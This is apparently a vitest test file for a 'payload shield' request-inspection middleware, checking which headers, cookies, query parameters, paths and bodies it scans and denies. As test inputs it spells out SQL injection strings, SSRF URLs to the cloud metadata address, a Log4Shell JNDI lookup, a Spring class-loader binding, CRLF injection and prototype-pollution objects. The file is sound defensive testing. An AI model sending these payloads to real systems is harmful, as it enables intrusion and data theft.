/**
 * Where the shield looks (issue 13): every request header except the never-inspected ones (credentials, attestation
 * tokens, framing) and `ignoreHeaders`, cookie names and values, query parameter names, and the path; JSON Schema
 * documents may name a property `__proto__` on routes that opt in.
 */
import { describe, expect, it } from 'vitest';
import { compilePayloadOptions, inspectPayload, NEVER_INSPECTED_HEADERS, payloadShieldOptionsSchema, type PayloadShieldOptions } from '../../../src/verifiers/payload-shield/index.js';
import { request } from './helpers.js';

function inspect(options: PayloadShieldOptions, overrides: Parameters<typeof request>[0], body?: unknown) {
  return inspectPayload(request(overrides), body, compilePayloadOptions(options));
}

describe('where the payload shield looks', () => {
  it('inspects any header with every detector', () => {
    expect(inspect({}, { headers: { 'x-client-note': "1' union select password from users--" } })).toMatchObject({ action: 'deny', detail: expect.stringContaining('header.x-client-note') });
    expect(inspect({}, { headers: { 'x-callback': 'http://169.254.169.254/latest/meta-data/' } })).toMatchObject({ action: 'deny' });
    expect(inspect({}, { headers: { referer: 'http://169.254.169.254/latest/meta-data/' } })).toMatchObject({ action: 'deny' });
    expect(inspect({}, { headers: { 'x-callback': 'http://localhost:8080/admin' } })).toMatchObject({ action: 'deny' });
    expect(inspect({}, { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } })).toMatchObject({ action: 'deny', detail: expect.stringContaining('scanner-user-agent') });
  });

  it('never inspects credentials and attestation tokens, nor headers listed in ignoreHeaders', () => {
    expect(NEVER_INSPECTED_HEADERS).toEqual(expect.arrayContaining(['authorization', 'x-attestation-token', 'approov-token', 'cookie']));
    const attack = "' or 1=1--";
    expect(inspect({}, { headers: { authorization: attack, 'x-attestation-token': attack, 'approov-token': attack } })).toMatchObject({ action: 'allow' });
    expect(inspect({}, { headers: { 'x-my-token': attack } })).toMatchObject({ action: 'deny' });
    expect(inspect({ ignoreHeaders: ['x-my-token'] }, { headers: { 'x-my-token': attack } })).toMatchObject({ action: 'allow' });
  });

  it('still checks ignored headers for Log4Shell lookups', () => {
    expect(inspect({}, { headers: { authorization: 'Bearer ${jndi:ldap://x.example/a}' } })).toMatchObject({ action: 'deny', detail: expect.stringContaining('jndi') });
  });

  it('leaves ordinary mobile headers alone', () => {
    const headers = {
      host: 'localhost:3000', 'x-forwarded-host': '10.0.0.5', accept: 'application/json, text/plain, */*', 'accept-language': 'fr-FR,fr;q=0.9,en;q=0.8',
      'if-none-match': 'W/"5e15153d-120f"', traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
      baggage: 'sentry-environment=production,sentry-release=com.example.shop%405.12.0', 'x-device-model': "Tim's iPad",
      'user-agent': 'ShopApp/5120 CFNetwork/1494.0.7 Darwin/23.4.0', 'content-type': 'application/json; charset=utf-8',
      origin: 'http://localhost:8081', referer: 'http://192.168.1.20:8080/checkout?step=2', forwarded: 'for=10.0.0.1;proto=http;host=localhost:3000',
      'x-amzn-trace-id': 'Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1',
      'sec-ch-ua': '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"', link: '<https://api.example.com/page=2>; rel="next"',
    };
    expect(inspect({}, { headers })).toMatchObject({ action: 'allow', hits: [] });
  });

  it('inspects cookie names and values', () => {
    expect(inspect({}, { headers: { cookie: "prefs=1' or '1'='1" } })).toMatchObject({ action: 'deny', detail: expect.stringContaining('cookie.prefs') });
    expect(inspect({}, { headers: { cookie: '__proto__=1' } })).toMatchObject({ action: 'deny', detail: expect.stringContaining('proto-pollution-key') });
    expect(inspect({}, { headers: { cookie: 'session=abc; _ga=GA1.2.1.2; prefs=%7B%22theme%22%3A%22dark%22%7D' } })).toMatchObject({ action: 'allow' });
    expect(inspect({ cookies: false }, { headers: { cookie: "prefs=1' or '1'='1" } })).toMatchObject({ action: 'allow' });
  });

  it('inspects query parameter names and the path', () => {
    expect(inspect({}, { query: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' })).toMatchObject({ action: 'deny', detail: expect.stringContaining('java-class-loader-binding') });
    expect(inspect({}, { query: 'JSESSIONID=0123456789abcdef' })).toMatchObject({ action: 'deny', detail: expect.stringContaining('session-fixation') });
    expect(inspect({}, { query: 'a%0d%0aSet-Cookie:x=1' })).toMatchObject({ action: 'deny', detail: expect.stringContaining('crlf') });
    expect(inspect({}, { path: '/api/items%0d%0aX-Injected:1' })).toMatchObject({ action: 'deny', detail: expect.stringContaining('crlf') });
    expect(inspect({}, { path: '/account;jsessionid=0123456789abcdef' })).toMatchObject({ action: 'deny', detail: expect.stringContaining('session-fixation') });
  });

  it('flags ORM filters on secret columns, not on ordinary ones', () => {
    expect(inspect({}, { query: 'password__startswith=a' })).toMatchObject({ action: 'deny', detail: expect.stringContaining('sqli-orm-secret-lookup') });
    expect(inspect({}, { query: 'user__password__regex=%5Ea' })).toMatchObject({ action: 'deny' });
    expect(inspect({}, { query: 'password[startsWith]=a' })).toMatchObject({ action: 'deny', detail: expect.stringContaining('sqli-orm-secret-lookup') });
    expect(inspect({}, { headers: {} }, { where: { resetToken: { startsWith: 'a' } } })).toMatchObject({ action: 'deny' });
    expect(inspect({}, { query: 'price__gte=10&name__icontains=pan' })).toMatchObject({ action: 'allow' });
    expect(inspect({}, { headers: {} }, { where: { name: { startsWith: 'a' } }, password: 'c0rrect horse' })).toMatchObject({ action: 'allow' });
  });

  it('denies a JSON Schema property named __proto__ unless the route opts in, and never a polluting object', () => {
    const schema = JSON.parse('{"type":"object","properties":{"__proto__":{"type":"string","description":"x"},"name":{"type":"string"}}}');
    // By default: a naive deep merge of this body would set Object.prototype.type and .description.
    expect(inspect({}, { headers: {} }, schema)).toMatchObject({ action: 'deny', detail: expect.stringContaining('proto-pollution-key') });
    expect(inspect({ prototypePollution: true }, { headers: {} }, schema)).toMatchObject({ action: 'deny' });
    const optIn = { prototypePollution: 'except-schema-property-names' } as const;
    expect(inspect(optIn, { headers: {} }, schema)).toMatchObject({ action: 'allow' });
    const polluting = JSON.parse('{"properties":{"__proto__":{"isAdmin":true}}}');
    expect(inspect(optIn, { headers: {} }, polluting)).toMatchObject({ action: 'deny', detail: expect.stringContaining('proto-pollution-key') });
    expect(inspect(optIn, { headers: {} }, JSON.parse('{"__proto__":{"type":"string"}}'))).toMatchObject({ action: 'deny' });
    expect(inspect({ prototypePollution: false }, { headers: {} }, JSON.parse('{"__proto__":{"isAdmin":true}}'))).toMatchObject({ action: 'allow' });
  });

  it('validates prototypePollution as a boolean or the one opt-in value', () => {
    for (const ok of [true, false, 'except-schema-property-names']) expect(payloadShieldOptionsSchema.safeParse({ prototypePollution: ok }).success).toBe(true);
    for (const bad of ['true', 'except', 1, null]) expect(payloadShieldOptionsSchema.safeParse({ prototypePollution: bad }).success).toBe(false);
  });
});
